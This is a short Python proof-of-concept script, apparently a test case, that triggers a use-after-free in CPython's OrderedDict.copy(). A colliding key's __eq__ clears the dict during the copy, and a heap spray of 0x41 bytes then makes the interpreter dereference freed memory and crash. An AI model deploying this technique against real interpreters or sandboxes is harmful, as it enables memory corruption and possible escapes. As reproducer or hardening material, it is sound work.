# technique: OrderedDict.copy() (no pyfix guard): odict_copy walks raw _ODictNode pointers (_odict_FOREACH) across the value lookup and the insert into the copy; a colliding key's __eq__ calls od.clear() (allowed: od not busy) -> nodes PyMem_Free'd, node->next read from freed blocks refilled with 0x41 -> SIGSEGV (gh-119004 class, via copy instead of ==)
# expect: any
import collections
class K:
    def __init__(self, n): self.n = n
    def __hash__(self): return 1
    def __eq__(self, other):
        if st[0] and self.n == 1:
            st[0] = 0
            od.clear()                          # frees every node of od while odict_copy walks them
            spray.extend(bytearray(b"\x41" * 31) for _ in range(300))   # 32-byte blocks: node->next = 0x4141...
        return False
st = [0]
spray = []
od = collections.OrderedDict()
od[K(1)] = 1
od[K(2)] = 2
od[K(3)] = 3
st[0] = 1
print(od.copy())
